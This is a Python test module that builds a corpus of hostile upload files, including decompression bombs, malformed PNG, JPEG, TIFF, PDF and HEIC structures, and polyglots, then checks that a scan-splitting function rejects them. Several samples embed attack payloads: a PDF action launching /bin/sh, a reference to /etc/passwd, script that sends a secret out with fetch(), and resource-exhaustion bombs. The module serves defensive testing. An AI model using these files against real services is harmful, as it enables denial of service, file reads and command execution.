"""Files that strangers could upload to do harm.

As a program it reads them as the split function does, and prints what came of each as JSON.
"""

import json
import os
import struct
import sys
import zlib
from collections.abc import Callable
from functools import partial
from io import BytesIO

import pillow_heif
from PIL import Image

from aita.errors import UnreadableScanError
from aita.imaging.isolated import pages_apart
from aita.imaging.pages import pages

ENDLESS = "PDF with a pattern of tiny steps"
"""Drawn for days, so that its limit may be short; the others end by themselves, on a busy machine after a while."""
SECONDS = 600.0
"""For a page of these others."""
LONGEST = 2048
SECRET = "Jane Q. Student"

Make = Callable[[], bytes]
FILES: dict[str, Make] = {}
"""How to make each file, by a name that says what it is."""


def hostile(name: str) -> Callable[[Make], Make]:
    def keep(make: Make) -> Make:
        assert name not in FILES
        FILES[name] = make
        return make

    return keep


def saved(image: Image.Image, kind: str, **options: object) -> bytes:
    out = BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def small(mode: str = "RGB", side: int = 32) -> Image.Image:
    return Image.new(mode, (side, side))


# --- PNG --------------------------------------------------------------------------------------


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int, height: int, *chunks: bytes, bits: int = 8, colours: int = 2, rows: bytes | None = None) -> bytes:
    """A PNG; without rows, its pixels are all zero, and next to nothing compressed."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, colours, 0, 0, 0))
    if rows is None:
        channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colours]
        row = bytes(1 + (width * channels * bits + 7) // 8)
        packed = zlib.compressobj(1)
        rows = b"".join([packed.compress(row) for _ in range(height)] + [packed.flush()])
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def zeros(length: int) -> bytes:
    """Compress zeros: a million of them once, however many there are."""
    packed = zlib.compressobj(9)
    first = packed.flush(zlib.Z_FULL_FLUSH)  # from here on each million becomes the same bytes
    million = packed.compress(bytes(10**6)) + packed.flush(zlib.Z_FULL_FLUSH)
    count, rest = divmod(length, 10**6)
    last = packed.compress(bytes(rest)) + packed.flush()
    checksum = struct.pack(">I", length % 65521 << 16 | 1)  # Adler-32 of zeros
    return first + million * count + last[:-4] + checksum


for _name, _bits, _colours in (("RGB", 8, 2), ("RGBA", 8, 6), ("16-bit gray", 16, 0), ("16-bit RGBA", 16, 6)):
    hostile(f"PNG bomb of 89 megapixels, {_name}")(lambda b=_bits, c=_colours: png(9459, 9459, bits=b, colours=c))  # type: ignore[misc]
hostile("PNG of 2,500 megapixels")(lambda: png(50_000, 50_000, rows=zeros(10**7)))
hostile("PNG as wide as a PNG can be")(lambda: png(2**31 - 1, 1, rows=b""))
hostile("PNG without width")(lambda: png(0, 10))
hostile("PNG strip of 80,000,000 x 1")(lambda: png(80_000_000, 1, colours=0))
hostile("PNG whose text inflates to 300 MB")(lambda: png(8, 8, chunk(b"zTXt", b"a\0\0" + zeros(300 * 10**6))))
hostile("PNG with 100,000 texts")(lambda: png(8, 8, *(chunk(b"tEXt", b"a\0" + SECRET.encode()) for _ in range(10**5))))
hostile("PNG whose profile inflates to 300 MB")(lambda: png(8, 8, chunk(b"iCCP", b"a\0\0" + zeros(300 * 10**6))))
hostile("PNG with too many rows of data")(lambda: png(8, 8, rows=zeros(300 * 10**6)))
hostile("PNG with a chunk of 4 GB")(lambda: png(8, 8)[:33] + struct.pack(">I", 2**32 - 1) + b"IDAT" + bytes(99))


@hostile("animated PNG of a million frames")
def animated_png() -> bytes:
    data = saved(small(), "PNG", save_all=True, append_images=[small(side=16)])
    at = data.index(b"acTL")
    return data[: at - 4] + chunk(b"acTL", struct.pack(">II", 10**6, 0)) + data[at + 16 :]


# --- JPEG -------------------------------------------------------------------------------------


def segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def jpeg(*segments: bytes, data: bytes | None = None) -> bytes:
    data = data or saved(small(), "JPEG")
    return data[:2] + b"".join(segments) + data[2:]


def sized(data: bytes, width: int, height: int, marker: bytes = b"\xff\xc0") -> bytes:
    at = data.index(marker) + 5
    return data[:at] + struct.pack(">HH", height, width) + data[at + 4 :]


def exif(*entries: tuple[int, int, int, int], following: int = 0) -> bytes:
    body = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"Exif\0\0II*\0" + struct.pack("<IH", 8, len(entries)) + body + struct.pack("<I", following)


hostile("JPEG of 4,000 megapixels")(lambda: sized(saved(small(), "JPEG"), 65_535, 65_535))
hostile("JPEG without height")(lambda: sized(saved(small(), "JPEG"), 32, 0))
hostile("JPEG of 89 megapixels")(lambda: saved(Image.new("RGB", (9459, 9459)), "JPEG", progressive=True))
hostile("JPEG of 89 megapixels, CMYK, on its side")(
    lambda: saved(Image.new("CMYK", (9459, 9459)), "JPEG", exif=_turned())
)
hostile("JPEG whose EXIF directory follows itself")(lambda: jpeg(segment(0xE1, exif((0x112, 3, 1, 6), following=8))))
hostile("JPEG whose EXIF directory is its own child")(lambda: jpeg(segment(0xE1, exif((0x8769, 4, 1, 8)))))
hostile("JPEG whose EXIF has a value of 32 GB")(lambda: jpeg(segment(0xE1, exif((0x112, 12, 2**32 - 1, 0)))))
hostile("JPEG with 100,000 EXIF blocks")(lambda: jpeg(*[segment(0xE1, exif((0x112, 3, 1, 6)))] * 10**5))
hostile("JPEG with 12 bits a channel")(
    lambda: saved(small(), "JPEG").replace(b"\xff\xc0\0\x11\x08", b"\xff\xc0\0\x11\x0c")
)
hostile("JPEG coded without loss")(lambda: saved(small(), "JPEG").replace(b"\xff\xc0", b"\xff\xc3"))
hostile("JPEG of restarts only")(lambda: b"\xff\xd8\xff" + b"\xd0\xff" * 10**6 + b"\xd9")
hostile("JPEG of fill bytes only")(lambda: b"\xff\xd8" + b"\xff" * 10**7)
hostile("JPEG and HTML")(lambda: jpeg(segment(0xFE, f"--><html><script>alert(1)</script>{SECRET}".encode())))
hostile("JPEG and ZIP")(
    lambda: saved(small(), "JPEG") + b"PK\x03\x04" + SECRET.encode() * 99 + b"PK\x05\x06" + bytes(18)
)


def _turned() -> bytes:
    block = Image.Exif()
    block[0x112] = 6
    return block.tobytes()


@hostile("progressive JPEG of 5,000 scans")
def many_scans() -> bytes:
    """Each scan goes over all pixels and takes a few bytes: the smallest file that takes hours."""
    data = saved(Image.new("L", (9000, 9000)), "JPEG", progressive=True)
    last = data.rindex(b"\xff\xda")
    tables = data.rindex(b"\xff\xc4", 0, last)
    return data[:-2] + data[tables:-2] * 5000 + b"\xff\xd9"


# --- TIFF -------------------------------------------------------------------------------------


def tiff(*entries: tuple[int, int, int, int], following: int = 0, rest: bytes = b"") -> bytes:
    """A TIFF of one directory: tag, type, count, value."""
    body = b"".join(struct.pack("<HHII", *entry) for entry in sorted(entries))
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + body + struct.pack("<I", following) + rest


def gray(width: int, height: int, compression: int, length: int) -> list[tuple[int, int, int, int]]:
    """A gray image in one strip, which lies behind the directory of 9 entries."""
    pairs = {256: width, 257: height, 258: 8, 259: compression, 262: 1, 273: 122, 277: 1, 278: height, 279: length}
    return [(tag, 4, 1, value) for tag, value in pairs.items()]


hostile("TIFF of 10^18 pixels")(lambda: tiff(*gray(2**30, 2**30, 1, 9), rest=bytes(9)))
hostile("TIFF whose directory follows itself")(lambda: tiff(*gray(8, 8, 1, 64), following=8, rest=bytes(64)))
hostile("TIFF whose strip is 4 GB long")(lambda: tiff(*gray(8, 8, 1, 2**32 - 1), rest=bytes(64)))
hostile("TIFF whose strip inflates to 500 MB")(lambda: tiff(*gray(64, 64, 8, 500_000), rest=zeros(500 * 10**6)))
hostile("TIFF bomb of 89 megapixels")(lambda: tiff(*gray(9459, 9459, 8, len(b := zeros(9459**2))), rest=b))
hostile("TIFF with a value of 4 billion numbers")(
    lambda: tiff(*gray(8, 8, 1, 64)[:-1], (279, 4, 2**32 - 1, 8), rest=bytes(64))
)
hostile("TIFF with 65,535 tags")(lambda: tiff(*((tag, 4, 2**16, 8) for tag in range(65_535)), rest=bytes(2**18)))
hostile("TIFF that ends before its directory")(lambda: b"II*\0" + struct.pack("<I", 2**32 - 1) + SECRET.encode())
hostile("BigTIFF that ends before its directory")(lambda: b"II+\0\x08\0\0\0" + struct.pack("<Q", 2**64 - 1))
hostile("TIFF of 1,001 frames")(
    lambda: saved(small("1", 8), "TIFF", save_all=True, append_images=[small("1", 8)] * 1000)
)
hostile("TIFF with tiles of no width")(
    lambda: tiff(
        *gray(8, 8, 1, 64)[:5], (277, 4, 1, 1), (322, 4, 1, 0), (323, 4, 1, 0), (324, 4, 1, 122), rest=bytes(64)
    )
)


# --- PDF --------------------------------------------------------------------------------------

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]%b>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R%b>>"
TREE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of hand-written objects, the first of them its catalog."""
    out = BytesIO(b"%PDF-1.7\n")
    out.seek(0, os.SEEK_END)
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%b\nendobj\n" % (number, body))
    start = out.tell()
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out.write(b"xref\n0 %d\n0000000000 65535 f \n%b" % (len(objects) + 1, table))
    out.write(b"trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start))
    return out.getvalue()


def stream(body: bytes, entries: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (entries, len(body), body)


def one_page(*more: bytes, entries: bytes = b"", catalog: bytes = b"", trailer: bytes = b"") -> bytes:
    """A PDF of one page; ``more`` are the objects from 4 on."""
    return pdf(CATALOG % catalog, TREE, PAGE % entries, *more, trailer=trailer)


def content(body: bytes, *more: bytes, entries: bytes = b"", filters: bytes = b"") -> bytes:
    return one_page(stream(body, filters), *more, entries=b"/Contents 4 0 R" + entries)


def box(value: bytes) -> bytes:
    return pdf(CATALOG % b"", TREE, b"<</Type/Page/Parent 2 0 R/MediaBox[%b]>>" % value)


def drawn(image: bytes) -> bytes:
    return content(b"300 0 0 200 0 0 cm /I Do", image, entries=b"/Resources<</XObject<</I 5 0 R>>>>")


hostile("PDF of a million pages")(
    lambda: pdf(CATALOG % b"", b"<</Type/Pages/Count 1000000/Kids[%b]>>" % (b"3 0 R " * 10**6), PAGE % b"")
)
hostile("PDF of a million pages in a thousand branches")(
    lambda: pdf(
        CATALOG % b"",
        b"<</Type/Pages/Count 1000000/Kids[%b]>>" % (b"4 0 R " * 1000),
        PAGE % b"",
        b"<</Type/Pages/Count 1000/Parent 2 0 R/Kids[%b]>>" % (b"3 0 R " * 1000),
    )
)
hostile("PDF that says a million pages")(
    lambda: pdf(CATALOG % b"", TREE.replace(b"Count 1", b"Count 1000000"), PAGE % b"")
)
hostile("PDF that says fewer than no pages")(
    lambda: pdf(CATALOG % b"", TREE.replace(b"Count 1", b"Count -9"), PAGE % b"")
)
hostile("PDF whose page tree is a circle")(
    lambda: pdf(
        CATALOG % b"", b"<</Type/Pages/Kids[3 0 R]/Count 9>>", b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 9>>"
    )
)
hostile("PDF whose page inherits in a circle")(
    lambda: pdf(CATALOG % b"", b"<</Type/Pages/Parent 3 0 R/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R>>")
)
hostile("PDF page of 10^18 inches")(lambda: box(b"0 0 100000000000000000000 100000000000000000000"))
hostile("PDF page without area")(lambda: box(b"0 0 0 0"))
hostile("PDF page of a negative size")(lambda: box(b"500 500 -99999999 0.0000001"))
hostile("PDF page as thin as a hair")(lambda: box(b"0 0 14400 0.001"))
hostile("PDF whose content inflates to 40 MB")(
    lambda: content(zlib.compress(b"q Q\n" * 10_000_000, 9), filters=b"/Filter/FlateDecode")
)
hostile("PDF whose content inflates twice")(
    lambda: content(zlib.compress(zlib.compress(b" " * 10**8, 9), 9), filters=b"/Filter[/FlateDecode/FlateDecode]")
)
hostile("PDF image that inflates to 240 MB")(
    lambda: drawn(
        stream(
            zeros(9000**2 * 3),
            b"/Subtype/Image/Width 9000/Height 9000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode",
        )
    )
)
hostile("PDF image of 10^18 pixels")(
    lambda: drawn(
        stream(b"x", b"/Subtype/Image/Width 1000000000/Height 1000000000/BitsPerComponent 8/ColorSpace/DeviceGray")
    )
)
hostile("PDF fax image of 10^9 rows")(
    lambda: drawn(
        stream(
            bytes(99),
            b"/Subtype/Image/Width 20000/Height 4000/BitsPerComponent 1/ColorSpace/DeviceGray"
            b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 20000/Rows 1000000000>>",
        )
    )
)
hostile("PDF with a program that runs on opening")(
    lambda: one_page(catalog=b"/OpenAction<</S/JavaScript/JS(while\\(true\\){} app.alert\\('x'\\))>>")
)
hostile("PDF that launches a shell")(
    lambda: one_page(catalog=b"/OpenAction<</S/Launch/F(/bin/sh)/P(-c 'touch /tmp/hostile')>>")
)
hostile("PDF with an embedded file that inflates to 1 GB")(
    lambda: one_page(
        b"<</Type/Filespec/F(%b)/EF<</F 5 0 R>>>>" % SECRET.encode(),
        stream(zeros(10**9), b"/Type/EmbeddedFile/Filter/FlateDecode"),
        catalog=b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>",
    )
)
hostile("PDF that asks for another file")(
    lambda: drawn(
        stream(b"", b"/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/F(/etc/passwd)")
    )
)
hostile("encrypted PDF")(
    lambda: one_page(
        b"<</Filter/Standard/V 2/R 3/Length 128/P -44/O %b/U %b>>" % ((b"<" + b"41" * 32 + b">",) * 2),
        trailer=b"/Encrypt 4 0 R/ID[<41><41>]",
    )
)
hostile("PDF whose table of objects follows itself")(lambda: one_page(trailer=b"/Prev 9"))
hostile("PDF with 500,000 nested arrays")(lambda: one_page(b"[" * 500_000 + b"]" * 500_000, entries=b"/Contents 4 0 R"))
hostile("PDF with a million nested states")(lambda: content(b"q " * 10**6))
hostile("PDF with 20,000 notes")(
    lambda: one_page(
        b"<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(%b)>>" % SECRET.encode(),
        entries=b"/Annots[%b]" % (b"4 0 R " * 20_000),
    )
)
hostile(ENDLESS)(
    lambda: content(
        b"/Pattern cs /P scn 0 0 300 200 re f",
        stream(
            b"0 0 1 1 re f",
            b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .001/YStep .001/Resources<<>>",
        ),
        entries=b"/Resources<</Pattern<</P 5 0 R>>>>",
    )
)
hostile("PDF form that draws itself")(
    lambda: content(
        b"/F Do",
        stream(b"/F Do /F Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>"),
        entries=b"/Resources<</XObject<</F 5 0 R>>>>",
    )
)
hostile("PDF and ZIP, the ZIP first")(lambda: b"PK\x03\x04" + SECRET.encode() + one_page())
hostile("PDF and ZIP, the PDF first")(lambda: one_page() + b"PK\x03\x04" + SECRET.encode() + bytes(4000))
hostile("PDF and HTML")(lambda: f"<html><script>alert('{SECRET}')</script>".encode() + one_page())


@hostile("PDF forms that draw 10^9 times")
def laughing_forms() -> bytes:
    """Ten levels of forms, each of which draws the next ten times."""
    forms = [
        stream(
            b"/F Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F %d 0 R>>>>" % (number + 1),
        )
        for number in range(5, 14)
    ]
    last = stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return content(b"/F Do " * 10, *forms, last, entries=b"/Resources<</XObject<</F 5 0 R>>>>")


# --- HEIC -------------------------------------------------------------------------------------


def heic() -> bytes:
    out = BytesIO()
    pillow_heif.from_pillow(small(side=64)).save(out, quality=90)
    return out.getvalue()


def resized(box_name: bytes, size: int) -> bytes:
    data = heic()
    at = data.index(box_name) - 4
    return data[:at] + struct.pack(">I", size) + data[at + 4 :]


def dimensions(width: int, height: int) -> bytes:
    data = heic()
    at = data.index(b"ispe") + 8
    return data[:at] + struct.pack(">II", width, height) + data[at + 8 :]


for _box in (b"meta", b"iloc", b"iprp", b"mdat"):
    for _size in (0, 1, 7, 2**32 - 1):
        hostile(f"HEIC whose {_box.decode()} box is {_size} bytes long")(lambda b=_box, s=_size: resized(b, s))  # type: ignore[misc]
hostile("HEIC of 10^18 pixels")(lambda: dimensions(2**31 - 1, 2**31 - 1))
hostile("HEIC that is its first box")(lambda: heic()[:24])


# --- other things under these names -----------------------------------------------------------

hostile("nothing")(lambda: b"")
hostile("a byte")(lambda: b"\xff")
hostile("zeros")(lambda: bytes(10**6))
hostile("SVG named .png")(lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><!--" + SECRET.encode())
hostile("HTML named .png")(f"<!doctype html><script>fetch('//x/'+'{SECRET}')</script>".encode)
hostile("XML of a billion laughs named .pdf")(
    lambda: b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'ha'>]>" + SECRET.encode()
)
hostile("GIF of many frames")(lambda: saved(small("P"), "GIF", save_all=True, append_images=[small("P", 31)] * 500))
hostile("gzip bomb")(lambda: b"\x1f\x8b\x08" + zeros(10**8))
hostile("PostScript")(lambda: b"%!PS\n{} loop %PDF-1.7 %%EOF")
hostile("every signature at once")(
    lambda: b"\xff\xd8\xff\x89PNG\r\n\x1a\nII*\0%PDF-1.7 PK\x03\x04 <html>" + SECRET.encode() + b"%%EOF"
)

for _kind, _whole in {
    "JPEG": lambda: saved(small(), "JPEG"),
    "PNG": lambda: saved(small(), "PNG"),
    "TIFF": lambda: saved(small(), "TIFF", compression="tiff_lzw"),
    "HEIC": heic,
    "PDF": lambda: content(b"0 0 9 9 re f"),
}.items():
    for _part in (1, 4, 9):
        hostile(f"{_kind} cut at {_part}/10")(lambda w=_whole, p=_part: (d := w())[: len(d) * p // 10])  # type: ignore[misc]


# --- reading them -----------------------------------------------------------------------------


def outcome(name: str) -> dict[str, object]:
    """Read a file as the function does; say what it became, or why it was refused."""
    data = FILES[name]()
    seconds = 2.0 if name == ENDLESS else SECONDS
    sizes = []
    try:
        for page in pages_apart(data, partial(pages, longest_side=LONGEST), page_seconds=seconds):
            assert SECRET.encode() not in page.jpeg
            sizes.append((page.width, page.height))
    except UnreadableScanError as error:
        return {"refused": str(error)}
    return {"pages": len(sizes), "longest": max(map(max, sizes))}


if __name__ == "__main__":
    json.dump({name: outcome(name) for name in sys.argv[1:] or FILES}, sys.stdout, indent=1)
